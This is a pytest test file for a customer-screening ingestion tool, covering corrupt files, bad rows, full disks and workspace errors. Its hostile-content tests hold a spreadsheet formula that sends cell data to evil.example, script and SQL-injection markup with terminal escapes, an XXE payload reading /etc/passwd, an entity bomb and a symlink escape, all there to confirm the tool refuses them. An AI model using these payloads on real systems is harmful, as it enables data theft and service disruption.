"""What a stranger's broken files do to the daily run: a clear error, the rest goes on, nothing half-written."""

from __future__ import annotations

import gzip
import json
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.journeys.scene import Desk, customer, ftm_person, write_csv, write_list
from tests.journeys.terminal import Answer

CUSTOMERS = [customer(f"a-{n:03}", f"Customer Number {n}", country="US") for n in range(300)]
SIGNINS = [
    {
        "event_id": f"e-{n:03}",
        "time": f"2026-01-{n % 27 + 1:02}T08:00:00Z",
        "account_id": f"a-{n:03}",
        "ip": "203.0.113.7",
    }
    for n in range(300)
]


@pytest.fixture
def export(tmp_path: Path) -> Path:
    """A small sound export of two tables."""
    write_csv(tmp_path / "export" / "accounts.csv", CUSTOMERS)
    write_csv(tmp_path / "export" / "signins.csv", SIGNINS)
    return tmp_path / "export"


def one_error(answer: Answer, *words: str) -> str:
    """The one line that names the fault, without a traceback."""
    assert answer.code == 1, answer.out + answer.err
    assert "Traceback" not in answer.err
    lines = [line for line in answer.err.splitlines() if all(word in line for word in words)]
    assert len(lines) == 1, answer.err
    return lines[0]


def _truncated(path: Path) -> Path:
    target = path.with_name(f"{path.name}.gz")
    target.write_bytes(gzip.compress(path.read_bytes())[:-200])
    path.unlink()
    return target


def _wide(path: Path) -> Path:
    path.write_bytes(path.read_text().encode("utf-16"))
    return path


def _latin(path: Path) -> Path:
    path.write_bytes(
        path.read_text()
        .replace("Customer Number", "Kundin M\u00fcller")
        .replace("203.0.113.7", "caf\u00e9")
        .encode("latin-1")
    )
    return path


def _without_required(path: Path) -> Path:
    path.write_text(path.read_text().replace("account_id", "kundennummer", 1))
    return path


def _binary(path: Path) -> Path:
    path.write_bytes(bytes(range(256)) * 40)
    return path


def _empty(path: Path) -> Path:
    path.write_bytes(b"")
    return path


class TestFileFaults:
    @pytest.mark.parametrize("spoil", [_truncated, _wide, _latin, _without_required, _binary])
    @pytest.mark.parametrize(("spoilt", "sound"), [("signins", "accounts"), ("accounts", "signins")])
    def test_the_file_is_refused_whole_and_the_others_are_committed(
        self, bare: Desk, export: Path, spoil: Callable[[Path], Path], spoilt: str, sound: str
    ) -> None:
        """One broken table neither spoils the night's work nor passes as read."""
        path = spoil(export / f"{spoilt}.csv")
        answer = bare("ingest", export)
        one_error(answer, "Refused", path.name)
        lake = bare.lake()
        assert lake.get(spoilt, 0) == 0
        assert lake[sound] == 300
        bare("audit", "verify").done()

    def test_the_run_goes_on_with_what_was_read_and_still_ends_with_1(self, equipped: Desk, export: Path) -> None:
        """Customers are screened tonight although one file must be sent again."""
        _truncated(export / "signins.csv")
        answer = equipped("run", export)
        one_error(answer, "signins.csv.gz")
        assert "300 parties" in answer.out

    def test_a_mended_file_is_taken_the_next_time(self, bare: Desk, export: Path) -> None:
        """Nothing of the refused file stands in the way of the good one."""
        path = _truncated(export / "signins.csv")
        assert bare("ingest", export).code == 1
        path.unlink()
        write_csv(export / "signins.csv", SIGNINS)
        bare("ingest", export).done()
        assert bare.lake()["signins"] == 300

    def test_a_file_in_place_of_the_folder(self, bare: Desk, tmp_path: Path) -> None:
        """A mistyped path is said, with what would be right."""
        path = write_csv(tmp_path / "accounts.csv", CUSTOMERS)
        one_error(bare("ingest", path), "no export folder", "--adapter")

    def test_a_folder_without_an_export(self, bare: Desk, tmp_path: Path) -> None:
        """An empty delivery is no quiet success."""
        (tmp_path / "empty").mkdir()
        one_error(bare("run", tmp_path / "empty"), "none of the files")

    def test_a_folder_where_a_table_should_be(self, bare: Desk, export: Path) -> None:
        """Something unreadable under a table's name is refused by name."""
        (export / "signins.csv").unlink()
        (export / "signins.csv").mkdir()
        answer = bare("ingest", export)
        one_error(answer, "signins.csv")
        assert bare.lake()["accounts"] == 300

    def test_a_table_in_a_folder_of_parts_is_read(self, bare: Desk, export: Path) -> None:
        """An engine that writes `signins.csv/part-0.csv` loses nothing."""
        parts = export / "parts"
        (export / "signins.csv").rename(parts)
        (export / "signins.csv").mkdir()
        parts.rename(export / "signins.csv" / "part-00000.csv")
        bare("ingest", export).done()
        assert bare.lake()["signins"] == 300

    def test_a_file_that_no_table_knows_is_named(self, bare: Desk, export: Path) -> None:
        """A misspelt table is not taken for screened."""
        (export / "signins.csv").rename(export / "sign_ins.csv")
        answer = bare("ingest", export).done()
        assert "not read" in answer.out and "sign_ins.csv" in answer.out

    def test_logs_of_an_unknown_product_are_named_and_the_rest_goes_on(self, bare: Desk, export: Path) -> None:
        """A new log source does not stop the night's work, and is not taken for read."""
        (export / "logs" / "mainframe").mkdir(parents=True)
        one_error(bare("ingest", export), "mainframe")
        assert bare.lake()["signins"] == 300

    def test_a_broken_log_file_among_good_ones(self, bare: Desk, export: Path) -> None:
        """One damaged hour of the audit log does not lose the day."""
        folder = export / "logs" / "cloudtrail"
        folder.mkdir(parents=True)
        record = {
            "eventVersion": "1.08",
            "eventTime": "2026-01-05T10:00:00Z",
            "eventSource": "signin.amazonaws.com",
            "eventName": "ConsoleLogin",
            "eventID": "11111111-1111-1111-1111-111111111111",
            "sourceIPAddress": "203.0.113.7",
            "userIdentity": {"type": "IAMUser", "accountId": "123456789012", "userName": "ann"},
        }
        (folder / "good.jsonl").write_text(json.dumps(record) + "\n")
        (folder / "bad.jsonl.gz").write_bytes(gzip.compress(b'{"eventID": 1}\n' * 9000)[:-20])
        one_error(bare("ingest", export), "bad.jsonl.gz")
        assert bare.lake()["logs"] == 1


class TestRowFaults:
    @pytest.mark.parametrize(
        ("change", "field"),
        [
            ({"time": "2026-01-05T10:00:00"}, "time"),
            ({"time": "yesterday"}, "time"),
            ({"time": ""}, "time"),
            ({"account_id": ""}, "account_id"),
            ({"ip": "999.1.2.3"}, "ip"),
            ({"timezone_offset_minutes": "90000"}, "timezone_offset_minutes"),
        ],
    )
    def test_the_row_is_refused_with_place_and_remedy_and_the_rest_goes_on(
        self, bare: Desk, export: Path, change: dict[str, str], field: str
    ) -> None:
        """One impossible value costs one row; the provider is told which, and how to mend it."""
        write_csv(export / "signins.csv", [*SIGNINS[:41], {**SIGNINS[41], **change}, *SIGNINS[42:]])
        rows = bare("ingest", export, "--json").done().rows
        (intake,) = [row for row in rows if row["adapter"] == "signins"]
        assert (intake["read"], intake["stored"], intake["refused_count"]) == (300, 299, 1)
        (refused,) = intake["refused"]
        assert refused["file"].endswith("signins.csv")
        assert (refused["line"], refused["field"]) == (43, field)
        assert refused["reason"] and refused["remedy"]
        assert rows[-1]["read"] == rows[-1]["stored"] + rows[-1]["duplicates"] + rows[-1]["refused_count"] == 600

    @pytest.mark.parametrize(
        ("change", "field"),
        [
            ({"opened_at": "2026-13-45T10:00:00Z"}, "opened_at"),
            ({"opened_at": "2026-01-05 10:00"}, "opened_at"),
            ({"kind": "robot"}, "kind"),
            ({"account_id": ""}, "account_id"),
        ],
    )
    def test_impossible_customers(self, bare: Desk, export: Path, change: dict[str, str], field: str) -> None:
        """A customer who cannot be read is named for correction, never silently left unscreened."""
        write_csv(export / "accounts.csv", [*CUSTOMERS[:41], {**CUSTOMERS[41], **change}, *CUSTOMERS[42:]])
        (intake,) = [row for row in bare("ingest", export, "--json").done().rows if row["adapter"] == "accounts"]
        assert [(item["line"], item["field"]) for item in intake["refused"]] == [(43, field)]
        assert intake["stored"] == 299

    def test_the_same_customer_twice_with_other_content(self, bare: Desk, export: Path) -> None:
        """Two truths about one customer are not settled by the order of lines: a person mends the file."""
        write_csv(export / "accounts.csv", [*CUSTOMERS, {**CUSTOMERS[0], "name": "Somebody Else"}])
        (intake,) = [row for row in bare("ingest", export, "--json").done().rows if row["adapter"] == "accounts"]
        assert (intake["read"], intake["stored"], intake["refused_count"]) == (301, 300, 1)
        assert "line 2" in intake["refused"][0]["reason"]

    def test_the_same_row_twice_is_a_duplicate(self, bare: Desk, export: Path) -> None:
        """Repeated rows are normal and count once."""
        write_csv(export / "signins.csv", [*SIGNINS, SIGNINS[0]])
        (intake,) = [row for row in bare("ingest", export, "--json").done().rows if row["adapter"] == "signins"]
        assert (intake["stored"], intake["duplicates"], intake["refused_count"]) == (300, 1, 0)

    def test_more_than_one_percent_refused_ends_with_1_but_keeps_the_good_rows(self, bare: Desk, export: Path) -> None:
        """A changed date form upstream is noticed on the first night."""
        spoilt = [{**row, "time": "05.01.2026"} for row in SIGNINS[:4]]
        write_csv(export / "signins.csv", [*spoilt, *SIGNINS[4:]])
        one_error(bare("ingest", export), "signins", "too many rows", "4 of 300", "1.00%", "signins.csv:2")
        assert bare.lake()["signins"] == 296

    def test_the_limit_is_a_setting(self, bare: Desk, export: Path) -> None:
        """A provider who knows its data may allow more."""
        write_csv(export / "signins.csv", [*({**row, "time": "?"} for row in SIGNINS[:4]), *SIGNINS[4:]])
        bare("ingest", export, VEDETTE_MAX_REFUSED="0.5").done()


def kept(desk: Desk) -> list[Path]:
    return sorted(path for path in (desk.root / "refused").rglob("*") if path.is_file())


class TestRefusedRows:
    def test_they_are_kept_and_can_be_corrected_and_fed_again(self, bare: Desk, export: Path, tmp_path: Path) -> None:
        """Correcting two rows does not mean exporting two million again."""
        spoilt = [{**SIGNINS[0], "time": "05.01.2026"}, {**SIGNINS[1], "ip": "not an address"}]
        write_csv(export / "signins.csv", [*spoilt, *SIGNINS[2:]])
        bare("ingest", export).done()
        (path,) = kept(bare)
        text = path.read_text(encoding="utf-8")
        assert "e-000" in text and "e-001" in text
        again = tmp_path / "again"
        again.mkdir()
        mended = text.replace("05.01.2026", "2026-01-05T08:00:00Z").replace("not an address", "203.0.113.7")
        (again / f"signins{path.suffix}").write_text(mended, encoding="utf-8")
        (intake,) = [row for row in bare("ingest", again, "--json").done().rows if row["adapter"] == "signins"]
        assert (intake["read"], intake["stored"], intake["refused_count"]) == (2, 2, 0)
        assert bare.lake()["signins"] == 300

    def test_customers_rows_are_for_the_owner_s_eyes_only(self, bare: Desk, export: Path) -> None:
        """A refused row still holds a customer's data: nobody else on the machine can read it, and no answer repeats it."""
        write_csv(
            export / "accounts.csv", [{**CUSTOMERS[0], "kind": "robot", "email": "ann@secret.example"}, *CUSTOMERS[1:]]
        )
        answer = bare("ingest", export, "--json").done()
        assert "ann@secret.example" not in answer.out + answer.err
        (path,) = kept(bare)
        assert "ann@secret.example" in path.read_text()
        assert path.stat().st_mode & 0o077 == 0 or path.parent.stat().st_mode & 0o077 == 0


class TestHostileContent:
    FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Ann")'
    MARKUP = "<script>alert(1)</script>'; DROP TABLE finding; --\u202e\x1b[31m"

    def test_formulas_and_markup_stay_what_they_are_in_json_and_harmless_on_the_terminal(
        self, bare: Desk, tmp_path: Path
    ) -> None:
        """A customer's name can attack neither the reviewer's terminal nor the database, and evidence stays verbatim."""
        rows = [customer("=1+1", self.FORMULA, birth_date="1980-05-05"), customer("b", self.MARKUP, country="KP")]
        write_csv(tmp_path / "export" / "accounts.csv", rows)
        entry = ftm_person("X-1", self.FORMULA, "1980-05-05")
        bare("lists", "load", write_list(tmp_path / "l.ftm.json", [entry])).done()
        bare("run", tmp_path / "export").done()
        cases = bare.cases()
        assert {account for case in cases for account in case["accounts"]} == {"=1+1", "b"}
        matched = next(row for row in bare.findings().values() if row["check"] == "screening/list_match")
        assert self.FORMULA in matched["summary"]
        shown = bare("cases", "show", "b", "--reveal").done().out
        assert "\x1b" not in shown and "\u202e" not in shown
        told = bare("cases", "show", "b", "--reveal", "--json").done().row
        assert told["customers"]["b"]["name"] == self.MARKUP

    @pytest.mark.parametrize(
        "text",
        [
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><CONSOLIDATED_LIST>&e;</CONSOLIDATED_LIST>',
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            "<CONSOLIDATED_LIST>&b;</CONSOLIDATED_LIST>",
        ],
        ids=["external entity", "bomb"],
    )
    def test_a_list_with_entities_is_refused(self, bare: Desk, tmp_path: Path, text: str) -> None:
        """A forged list can neither read the provider's files nor exhaust its machine."""
        path = tmp_path / "un_consolidated.xml"
        path.write_text(text)
        answer = bare("lists", "load", path)
        assert answer.code == 1
        assert "root:" not in answer.out + answer.err
        assert len(answer.err.strip().splitlines()) == 1
        assert not [row for row in bare("lists", "status", "--json").done().rows if row["in_force"]]

    def test_a_table_s_name_cannot_leave_the_folder(self, bare: Desk, export: Path, tmp_path: Path) -> None:
        """A link in an export does not make the program read the provider's other files as a table."""
        secret = write_csv(tmp_path / "elsewhere.csv", [customer("secret", "Hidden Person")])
        (export / "logs").mkdir()
        (export / "logs" / "cloudtrail").mkdir()
        (export / "logs" / "cloudtrail" / "link.jsonl").symlink_to(secret)
        answer = bare("ingest", export)
        assert "Traceback" not in answer.err
        assert bare.lake().get("logs", 0) == 0


FULL = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, ({limit}, {limit}))
from vedette.cli.main import run
sys.exit(run(sys.argv[1:]))
"""


def limited(limit: int, *arguments: str | Path) -> Answer:
    """A command in a process that may write no file beyond ``limit`` bytes, as on a disk that fills up."""
    assert resource.getrlimit(resource.RLIMIT_FSIZE)[0] == resource.RLIM_INFINITY
    command = [sys.executable, "-c", FULL.format(limit=limit), *map(str, arguments)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, timeout=120)
    return Answer(done.returncode, done.stdout, done.stderr)


class TestFullDisk:
    @pytest.mark.parametrize("limit", [2_000, 30_000, 120_000])
    def test_a_full_disk_is_said_and_nothing_is_half_written(self, bare: Desk, export: Path, limit: int) -> None:
        """The operator frees space and runs again; nothing that was told as stored is missing, nothing is stored twice."""
        answer = limited(limit, "-w", bare.root, "ingest", export)
        assert answer.code == 1, answer.out + answer.err
        assert "Traceback" not in answer.err, answer.err[-1500:]
        assert answer.err.strip()
        told: dict[str, Any] = bare("audit", "verify", "--json").done().row
        assert told["holds"] is True
        bare("run", export).done()
        assert bare.lake() == {"accounts": 300, "account_name_parts": 900, "signins": 300}
        bare("audit", "verify").done()


class TestWorkspace:
    def test_a_folder_that_is_no_workspace(self, tmp_path: Path) -> None:
        """The first thing a newcomer does wrong is answered with the right command."""
        desk = Desk(tmp_path)
        for words in (["run"], ["findings"], ["cases", "list"], ["audit", "verify"], ["lists", "status"]):
            one_error(desk(*words), "not a workspace", "vedette init")

    def test_a_damaged_database_is_said(self, bare: Desk) -> None:
        """The operator learns that the state is damaged, not that there are no cases."""
        (bare.root / "state.db").write_bytes(b"not a database" * 1000)
        for name in ("state.db-wal", "state.db-shm"):
            (bare.root / name).unlink(missing_ok=True)
        one_error(bare("cases", "list"), "Error")

    def test_a_misspelt_setting_is_refused(self, bare: Desk) -> None:
        """A setting that would just do nothing is named."""
        (bare.root / "vedette.toml").write_text('hoem = "eu"\n')
        one_error(bare("run"), "hoem")
